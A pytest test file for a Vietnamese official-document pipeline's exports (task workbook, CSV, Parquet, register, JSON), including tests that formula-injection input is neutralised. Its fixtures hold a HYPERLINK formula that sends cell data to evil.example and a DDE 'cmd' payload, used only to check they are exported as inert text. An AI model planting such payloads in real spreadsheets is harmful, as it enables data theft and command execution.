"""Exports: the task workbook, CSV, Parquet, the incoming register and the Phụ lục VI JSON."""
from __future__ import annotations

import json
from datetime import date

import openpyxl
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from pipelines import exports
from pipelines.exports import REGISTER_COLUMNS, TASK_COLUMNS, TRACKING_COLUMNS, neutralize
from pipelines.store import TASK_STATES, Store
from pipelines.store.testing import fresh_database, make_record, pg_available

TODAY = date(2024, 5, 1)
HOSTILE = '=HYPERLINK("http://evil.example/x?"&A1,"Bấm vào đây")'
TASKS = [
    {"assignees": ["Sở Tài chính"], "lead": "Sở Tài chính", "co": ["Sở Nội vụ", "Kho bạc Nhà nước tỉnh"],
     "action": "chủ trì tham mưu phương án phân bổ kinh phí " * 4, "deadline": "2024-06-30"},
    {"assignees": ["Công an tỉnh"], "lead": "Công an tỉnh", "action": HOSTILE, "deadline": "2024-04-15"},
    {"assignees": ["Sở Tài chính"], "lead": "Sở Tài chính", "action": "báo cáo", "deadline": None},
]


@pytest.fixture(params=["sqlite", pytest.param("postgresql", marks=[
    pytest.mark.postgres, pytest.mark.skipif(not pg_available(), reason="CONGVAN_TEST_PG_URL is not set")])])
def store(request, tmp_path):
    with fresh_database(request.param, tmp_path, migrated=True) as url:
        s = Store(url)
        s.save_record(make_record("a", tasks=TASKS, subject="@cmd|' /C calc'!A0"))
        s.save_record(make_record("b", symbol="-12/UBND", date="2024-05", tasks=TASKS[:1]))
        done = s.tasks(document="b")[0]
        s.set_task_status(done["id"], "done", on="2024-07-02")
        s.correct_document("a", "number", "16", by="lan")
        yield s
        s.close()


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+84 912", "'+84 912"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＝1", "'＝1"), ("Sở Tài chính", "Sở Tài chính"), ("a=b", "a=b"), (5, 5), (None, None),
    (date(2024, 1, 1), date(2024, 1, 1)),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


def _all_cells(wb):
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            yield from row


def test_task_workbook(store, tmp_path):
    path = tmp_path / "tasks.xlsx"
    assert exports.export_tasks(store, path, "xlsx", today=TODAY) == 4
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Tổng hợp", "Nhiệm vụ"]

    ws = wb["Nhiệm vụ"]
    headers = [c.value for c in ws[1]]
    assert headers == [label for _, label in TASK_COLUMNS]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(headers))}5"
    assert ws.max_row == 5
    col = {h: i for i, h in enumerate(headers)}
    rows = list(ws.iter_rows(min_row=2))
    due_cells = [r[col["Hạn xử lý"]] for r in rows if r[col["Hạn xử lý"]].value is not None]
    assert len(due_cells) == 3 and all(c.is_date and c.number_format == "DD/MM/YYYY" for c in due_cells)
    assert rows[0][col["Ngày văn bản"]].is_date                       # a full document date is a date cell
    assert rows[-1][col["Ngày văn bản"]].is_date                      # a partial one: a real date …
    assert rows[-1][col["Độ chính xác ngày văn bản"]].value == "tháng"  # … with its precision beside it
    assert rows[0][col["Độ chính xác ngày văn bản"]].value == "ngày"
    assert {r[col["Tình trạng"]].value for r in rows} == {"trong hạn", "quá hạn", "không thời hạn",
                                                           "hoàn thành quá hạn"}
    action = openpyxl.utils.get_column_letter(col["Nội dung nhiệm vụ"] + 1)
    assert ws.column_dimensions[action].width >= 40                   # the action column is readable
    assert ws.column_dimensions["A"].width < 20

    # the hostile cells are inert text
    hostile = [r[col["Nội dung nhiệm vụ"]] for r in rows if "HYPERLINK" in str(r[col["Nội dung nhiệm vụ"]].value)]
    assert len(hostile) == 1 and hostile[0].data_type == "s" and hostile[0].value == "'" + HOSTILE
    assert rows[-1][col["Số, ký hiệu văn bản"]].value == "'-12/UBND"
    assert rows[0][col["Trích yếu"]].value.startswith("'@")
    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]

    summary = wb["Tổng hợp"]
    assert [c.value for c in summary[1]] == ["Đơn vị", *TASK_STATES, "Tổng số"]
    table = {r[0]: r[1:] for r in summary.iter_rows(min_row=2, values_only=True) if r[0]}
    # Sở Tài chính: a (trong hạn, không thời hạn) + b (done late)
    assert table["Sở Tài chính"] == (1, 0, 0, 0, 1, 1, 3)
    assert table["Sở Nội vụ"] == (1, 0, 0, 0, 1, 0, 2)              # a co-ordinating body counts for itself
    assert table["Công an tỉnh"] == (0, 0, 1, 0, 0, 0, 1)
    assert table["Kho bạc Nhà nước tỉnh"] == (1, 0, 0, 0, 1, 0, 2)
    assert table["Tổng cộng (nhiệm vụ)"] == (1, 0, 1, 0, 1, 1, 4)
    assert summary.freeze_panes == "A2" and summary.auto_filter.ref == "A1:H5"   # totals row outside


def test_task_workbook_filters(store, tmp_path):
    path = tmp_path / "t.xlsx"
    assert exports.export_tasks(store, path, today=TODAY, assignee="cong an") == 1
    assert exports.export_tasks(store, tmp_path / "e.xlsx", today=TODAY, state="đúng hạn") == 0
    assert openpyxl.load_workbook(tmp_path / "e.xlsx")["Nhiệm vụ"].max_row == 1


def test_task_csv(store, tmp_path):
    path = tmp_path / "tasks.csv"
    exports.export_tasks(store, path, "csv", today=TODAY)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                             # BOM: Excel reads Vietnamese right
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str)
    assert list(frame.columns) == [label for _, label in TASK_COLUMNS]
    assert len(frame) == 4
    assert (frame["Nội dung nhiệm vụ"] == "'" + HOSTILE).sum() == 1
    assert not frame.map(lambda v: isinstance(v, str) and v[:1] in "=+-@").any().any()
    assert set(frame["Hạn xử lý"].dropna()) == {"2024-06-30", "2024-04-15"}


def test_task_parquet(store, tmp_path):
    path = tmp_path / "tasks.parquet"
    exports.export_tasks(store, path, today=TODAY)
    table = pq.read_table(path)
    assert table.column_names == [label for _, label in TASK_COLUMNS]   # the same names as XLSX and CSV
    assert table.schema.field("Hạn xử lý").type == pa.date32()
    assert table.schema.field("Ngày văn bản").type == pa.date32()
    assert table.schema.field("Đơn vị (theo danh mục)").type == pa.string()
    assert table.num_rows == 4
    frame = table.to_pandas()
    assert date(2024, 6, 30) in set(frame["Hạn xử lý"])
    assert (frame["Nội dung nhiệm vụ"] == "'" + HOSTILE).sum() == 1


def test_unknown_format(store, tmp_path):
    with pytest.raises(ValueError):
        exports.export_tasks(store, tmp_path / "x.ods")


def test_register_workbook(store, tmp_path):
    path = tmp_path / "register.xlsx"
    assert exports.export_register(store, path) == 2
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Sổ đăng ký văn bản đến", "Sổ theo dõi giải quyết"]
    ws = wb["Sổ đăng ký văn bản đến"]
    assert [c.value for c in ws[1]] == REGISTER_COLUMNS
    rows = list(ws.iter_rows(min_row=2, values_only=True))
    assert [r[1] for r in rows] == [1, 2]                              # số đến in arrival order
    assert ws["A2"].is_date and ws["E2"].is_date and ws["E3"].is_date             # 2024-05: a real date …
    assert ws["E3"].number_format == "MM/YYYY" and ws["E2"].number_format == "DD/MM/YYYY"   # … shown as 05/2024
    assert rows[0][3] == "15/UBND-KT" and rows[1][3] == "'-12/UBND"
    assert rows[0][6] is None                                          # routed to no internal unit yet
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:J3"
    tracking = wb["Sổ theo dõi giải quyết"]
    assert [c.value for c in tracking[1]] == TRACKING_COLUMNS
    assert tracking.max_row == 5
    assert not [c.coordinate for c in _all_cells(wb) if c.data_type == "f"]


def test_json_phu_luc_vi(store, tmp_path):
    path = tmp_path / "docs.json"
    assert exports.export_json(store, path) == 2
    items = json.loads(path.read_text(encoding="utf-8"))
    first = items[0]
    for key in ("TypeName", "CodeNumber", "CodeNotation", "IssuedDate", "OrganName", "Subject", "SignerInfo",
                "Priority", "ToPlaces", "ArrivalDate", "ArrivalNumber", "DueDate", "TraceHeaderList"):
        assert key in first
    assert set(first["SignerInfo"]) == {"Position", "FullName"}
    assert (first["TypeName"], first["CodeNumber"], first["CodeNotation"]) == ("Công văn", "16", "UBND-KT")
    assert first["IssuedDate"] == "2024-03-05" and first["ToPlaces"] == ["Sở Tài chính"]
    assert first["DueDate"] == "2024-04-15" and len(first["TraceHeaderList"]) == 3
    assert items[1]["TraceHeaderList"][0]["Status"] == "done"
    assert [i["ArrivalNumber"] for i in items] == [1, 2]
    assert first["congvan"]["over_length"] == [] and first["congvan"]["id"] == "a"


def test_json_flags_over_length(tmp_path):
    with fresh_database("sqlite", tmp_path) as url:
        store = Store(url)
        store.save_record(make_record("long", subject="x" * 501, code="UBND-" + "K" * 30))
        exports.export_json(store, tmp_path / "d.json")
        [item] = json.loads((tmp_path / "d.json").read_text(encoding="utf-8"))
        assert item["congvan"]["over_length"] == ["CodeNotation", "Subject"]
        assert len(item["Subject"]) == 501                              # kept whole, only flagged
        store.close()


def test_a_file_that_is_no_document_stays_out_of_the_register(store, tmp_path):
    store.save_record(make_record("manual", official=False, doc_type=None, symbol=None))
    assert len(store.documents()) == 3                                 # recorded
    register, _ = exports.register_rows(store)
    assert len(register) == 2                                          # not registered


@pytest.mark.slow
def test_register_prints_on_a4_landscape(tmp_path):
    """LibreOffice Calc prints the register: A4 landscape, every column on the page (fit to width), the
    header row on every page, the wrapped rows whole (each subject printed in full)."""
    import shutil
    import subprocess

    soffice, pdftotext, pdfinfo = shutil.which("soffice"), shutil.which("pdftotext"), shutil.which("pdfinfo")
    if not (soffice and pdftotext and pdfinfo):
        pytest.skip("LibreOffice or poppler-utils is not installed")
    with fresh_database("sqlite", tmp_path) as url:
        store = Store(url)
        for i in range(45):
            store.save_record(make_record(f"d{i}", symbol=f"{i + 1}/UBND-KT", subject=f"mục {i} " + "triển khai "
                                          "kế hoạch phòng, chống thiên tai và tìm kiếm cứu nạn năm 2024 " * (1 + i % 3)))
        store.set_arrival("d3", routed_to="Phòng Kinh tế; Văn phòng", by="lan")
        path = tmp_path / "register.xlsx"
        assert exports.export_register(store, path) == 45
        store.close()
    subprocess.run([soffice, f"-env:UserInstallation=file://{tmp_path}/lo", "--headless", "--convert-to", "pdf",
                    "--outdir", str(tmp_path), str(path)], check=True, capture_output=True, timeout=300)
    pdf = tmp_path / "register.pdf"
    info = subprocess.run([pdfinfo, str(pdf)], capture_output=True, text=True, check=True).stdout
    pages = int(next(l.split()[-1] for l in info.splitlines() if l.startswith("Pages:")))
    size = next(l for l in info.splitlines() if l.startswith("Page size:"))
    width, height = (float(v) for v in size.split()[2:5:2])
    assert width > height and abs(width - 841.9) < 2 and abs(height - 595.3) < 2          # A4 landscape
    texts = [subprocess.run([pdftotext, "-layout", "-f", str(p), "-l", str(p), str(pdf), "-"], capture_output=True,
                            text=True, check=True).stdout for p in range(1, pages + 1)]
    register_pages = [t for t in texts if "SỔ ĐĂNG KÝ VĂN BẢN ĐẾN" in t]
    assert len(register_pages) >= 2
    for text in register_pages:                           # the header row, all its columns, on every page
        assert "Số đến" in text and "Ghi chú" in text and "Tác giả" in text
    joined = " ".join(" ".join(t.split()) for t in register_pages)
    for i in range(45):                                   # every row printed whole, none cut between cells
        assert f"mục {i} triển khai" in joined
    assert "Phòng Kinh tế" in joined
